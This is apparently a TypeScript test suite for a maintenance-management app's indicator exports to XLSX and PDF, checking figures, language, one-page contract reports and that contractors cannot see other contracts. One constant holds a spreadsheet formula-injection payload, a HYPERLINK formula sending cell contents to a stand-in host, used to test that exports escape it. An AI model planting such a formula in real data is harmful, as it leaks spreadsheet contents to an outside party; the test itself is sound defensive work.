// Service-indicator exports (#11 item 3) on both engines: each view as XLSX holds the figures of the
// JSON answer in the caller's language with formula-looking text escaped, the report of one
// contract is ONE A4 page a service head can attach to a letter, and a contractor never gets
// another contractor's figures or contract through a file.
import { beforeAll, expect, it } from 'vitest';
import ExcelJS from 'exceljs';
import { describeEachDb, type Client } from './helpers/app.ts';
import { pdfPageCount, pdfText } from './helpers/pdf.ts';
import { move, ok, openTicket, refs, type Obj } from './fixtures/workflow/workflow.ts';

const XLSX = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet';
const EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Edificio")';
const PERIOD = 'from=2026-03-01&to=2026-03-31';

async function workbook(buf: Buffer) {
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load(buf as unknown as ExcelJS.Buffer);
  return wb;
}

/** Every row of a sheet as plain values (index 0 is column A). */
const rowsOf = (ws: ExcelJS.Worksheet) => {
  const out: unknown[][] = [];
  ws.eachRow((row) => out.push((row.values as unknown[]).slice(1)));
  return out;
};

describeEachDb('service indicator exports', (env) => {
  let r: Awaited<ReturnType<typeof refs>>;
  let cs: Client, ele: Client, csEn: Client;
  let taken: Obj, late: Obj, heating: Obj;
  let eleContract: { id: string; lot: string }, terContract: { id: string; lot: string };

  beforeAll(async () => {
    env.clock.now = new Date('2026-03-10T09:00:00Z');
    r = await refs(env);
    const [requester, bm] = await Promise.all(['richiedente', 'bm.centrale'].map((u) => env.login(u)));
    const issued = async (subject: string, cls: string): Promise<Obj> => {
      const t = await openTicket(requester, { buildingId: await r.building('MI-B01'), subject, description: `${subject}: guasto.` });
      return (await move(bm, 'tickets', t.id, 'issue', { technologyClassId: await r.cls(cls), priority: 'urgent', description: subject }))
        .workOrders[0];
    };
    taken = await issued('Luce spenta', 'ELE');
    late = await issued('Presa bruciata', 'ELE');
    heating = await issued('Termosifone freddo', 'TER');
    env.clock.now = new Date('2026-03-10T09:30:00Z');
    await move(await env.login('ditta.elettrica'), 'work-orders', taken.id, 'acknowledge');
    env.clock.now = new Date('2026-03-13T09:00:00Z');
    ele = await env.login('ditta.elettrica');
    await move(ele, 'work-orders', late.id, 'acknowledge');
    await move(await env.login('ditta.termica'), 'work-orders', heating.id, 'acknowledge');

    const contractOf = (id: string) =>
      env.db
        .selectFrom('work_orders as w')
        .innerJoin('contracts as k', 'k.id', 'w.contract_id')
        .select(['k.id', 'k.lot'])
        .where('w.id', '=', id)
        .executeTakeFirstOrThrow();
    [eleContract, terContract] = await Promise.all([contractOf(taken.id), contractOf(heating.id)]);
    // A building name typed as a formula (an import or the registry API can store it as typed).
    await env.db.updateTable('buildings').set({ name: EVIL }).where('code', '=', 'MI-B01').execute();
    await env.db.updateTable('users').set({ language: 'it' }).where('username', '=', 'capo.servizio').execute();
    cs = await env.login('capo.servizio');
    await env.db.updateTable('users').set({ language: 'en' }).where('username', '=', 'admin').execute();
    csEn = await env.login('admin');
  });

  it("the report's spreadsheet: the figures with numerator and denominator, per priority, and the work orders behind them", async () => {
    const res = await cs.get(`/api/kpi/report?${PERIOD}&format=xlsx`);
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-type']).toBe(XLSX);
    expect(res.headers['content-disposition']).toBe('attachment; filename="indicatori-report-2026-03-01-2026-03-31.xlsx"');
    const wb = await workbook(res.rawPayload);
    const figures = rowsOf(wb.getWorksheet('Indicatori')!);
    const find = (label: string, priority: string) => figures.find((row) => row[0] === label && row[1] === priority);
    expect(find('Ordini di lavoro emessi nel periodo', 'Tutte')?.[4]).toBe(3);
    expect(find('Presa in carico nei tempi', 'Tutte')?.slice(2, 5)).toEqual([1, 3, 1 / 3]);
    expect(find('Presa in carico nei tempi', 'Urgenza')?.slice(2, 5)).toEqual([1, 3, 1 / 3]);
    expect(find('Arretrato: ordini aperti', 'Tutte')?.[4]).toBe(3);
    // Nothing planned in the period: "no data", never 0 %.
    expect(find('Manutenzione programmata nei tempi', 'Tutte')?.[4]).toBe('nessun dato');
    expect(find('Gradimento medio (1–5)', 'Tutte')).toBeDefined();
    expect(wb.getWorksheet('Costo al m²')).toBeDefined();

    const list = rowsOf(wb.getWorksheet('Ordini di lavoro')!);
    expect(list[0].slice(0, 3)).toEqual(['Numero', 'Tipo', 'Priorità']);
    expect(list.slice(1).map((row) => row[0])).toEqual([taken.number, late.number, heating.number]);
    const takenRow = list.find((row) => row[0] === taken.number)!;
    expect(takenRow[8]).toBe('rispettato');
    expect(list.find((row) => row[0] === late.number)![8]).toBe('superato');
  });

  it('in English for an English-speaking caller', async () => {
    const wb = await workbook((await csEn.get(`/api/kpi/report?${PERIOD}&format=xlsx`)).rawPayload);
    const figures = rowsOf(wb.getWorksheet('Indicators')!);
    expect(figures.find((row) => row[0] === 'Taken in charge in time' && row[1] === 'All')?.slice(2, 5)).toEqual([1, 3, 1 / 3]);
    expect(wb.getWorksheet('Work orders')).toBeDefined();
  });

  it('the trend: one row per month', async () => {
    const res = await cs.get(`/api/kpi/trend?${PERIOD}&format=xlsx`);
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-disposition']).toContain('indicatori-trend-2026-03-01-2026-03-31.xlsx');
    const rows = rowsOf((await workbook(res.rawPayload)).getWorksheet('Andamento')!);
    const head = rows.findIndex((row) => row[0] === 'Mese');
    expect(rows.slice(head + 1)).toHaveLength(1);
    expect(rows[head + 1].slice(0, 5)).toEqual(['marzo 2026', 3, 1, 3, 1 / 3]);
  });

  it('the heat map: buildings × classes with totals, a building named like a formula written as text', async () => {
    const res = await cs.get(`/api/kpi/heatmap?${PERIOD}&format=xlsx`);
    expect(res.statusCode).toBe(200);
    const rows = rowsOf((await workbook(res.rawPayload)).getWorksheet('Guasti')!);
    const head = rows.find((row) => row[0] === 'Edificio' && row[1] === 'Nome')!;
    const ele = head.findIndex((c) => String(c).startsWith('ELE —'));
    const ter = head.findIndex((c) => String(c).startsWith('TER —'));
    const building = rows.find((row) => row[0] === 'MI-B01')!;
    expect(building[1]).toBe(`'${EVIL}`);
    expect([building[ele], building[ter], building[head.length - 1]]).toEqual([2, 1, 3]);
    expect(rows[rows.length - 1][0]).toBe('Totale');
    expect(rows[rows.length - 1][head.length - 1]).toBe(3);
  });

  it('the drill-down: every work order of the set, not one page', async () => {
    const res = await cs.get(`/api/kpi/work-orders?${PERIOD}&figure=takeCharge&set=misses&limit=1&format=xlsx`);
    expect(res.statusCode).toBe(200);
    const rows = rowsOf((await workbook(res.rawPayload)).getWorksheet('Ordini di lavoro')!);
    const head = rows.findIndex((row) => row[0] === 'Numero');
    expect(
      rows
        .slice(head + 1)
        .map((row) => row[0])
        .sort(),
    ).toEqual([late.number, heating.number].sort());
    expect(rows.find((row) => row[0] === 'Indicatore')?.[1]).toBe('Presa in carico nei tempi (non al numeratore)');
  });

  it("the report of one contract as ONE A4 page with the contract's lot and its figures", async () => {
    const res = await cs.get(`/api/kpi/report?${PERIOD}&contractId=${eleContract.id}&format=pdf`);
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-type']).toBe('application/pdf');
    expect(res.headers['content-disposition']).toMatch(/^attachment; filename="indicatori-report-.+-2026-03-01-2026-03-31\.pdf"$/);
    expect(pdfPageCount(res.rawPayload)).toBe(1);
    const text = pdfText(res.rawPayload);
    expect(text).toContain(eleContract.lot);
    expect(text).toContain('Presa in carico nei tempi');
    // The electrical contract's take-charge: one of two in time.
    expect(text).toContain('1 su 2');
    expect(text).toContain('Urgenza');

    const en = await csEn.get(`/api/kpi/report?${PERIOD}&contractId=${eleContract.id}&format=pdf`);
    expect(pdfPageCount(en.rawPayload)).toBe(1);
    expect(pdfText(en.rawPayload)).toContain('1 of 2');
  });

  it('a PDF without a contract is refused naming contractId; pdf is only for the report', async () => {
    const res = await cs.get(`/api/kpi/report?${PERIOD}&format=pdf`);
    expect(res.statusCode).toBe(400);
    expect(res.json().errors[0]).toMatchObject({ field: 'contractId', code: 'required' });
    expect((await cs.get(`/api/kpi/trend?${PERIOD}&format=pdf`)).statusCode).toBe(400);
  });

  it("a contractor gets only its own work orders in a file, and another's contract is not found", async () => {
    const own = await workbook((await ele.get(`/api/kpi/report?${PERIOD}&format=xlsx`)).rawPayload);
    const list = rowsOf(own.getWorksheet('Ordini di lavoro')!);
    expect(list.slice(1).map((row) => row[0])).toEqual([taken.number, late.number]);
    const pdf = await ele.get(`/api/kpi/report?${PERIOD}&contractId=${eleContract.id}&format=pdf`);
    expect(pdf.statusCode).toBe(200);
    // Its own contract's figures: the same one-of-two the service head reads.
    expect(pdfText(pdf.rawPayload)).toContain('1 su 2');

    // The JSON answer has none of the other contract's work orders; the files name the contract, so 404.
    expect(ok(await ele.get(`/api/kpi/report?${PERIOD}&contractId=${terContract.id}`)).workOrders).toBe(0);
    expect((await ele.get(`/api/kpi/report?${PERIOD}&contractId=${terContract.id}&format=pdf`)).statusCode).toBe(404);
    expect((await ele.get(`/api/kpi/report?${PERIOD}&contractId=${terContract.id}&format=xlsx`)).statusCode).toBe(404);
    expect((await ele.get(`/api/kpi/heatmap?${PERIOD}&contractId=${terContract.id}&format=xlsx`)).statusCode).toBe(404);
  });

  it('the OpenAPI spec documents the format and the file types of each view', async () => {
    const spec = ok(await env.anonymous().get('/api/openapi.json'));
    for (const [path, types] of [
      ['/api/kpi/report', ['application/json', XLSX, 'application/pdf']],
      ['/api/kpi/work-orders', ['application/json', XLSX]],
      ['/api/kpi/trend', ['application/json', XLSX]],
      ['/api/kpi/heatmap', ['application/json', XLSX]],
    ] as const) {
      const op = spec.paths[path].get;
      expect(
        op.parameters.map((p: Obj) => p.name),
        path,
      ).toContain('format');
      expect(Object.keys(op.responses['200'].content).sort(), path).toEqual([...types].sort());
    }
  });
});
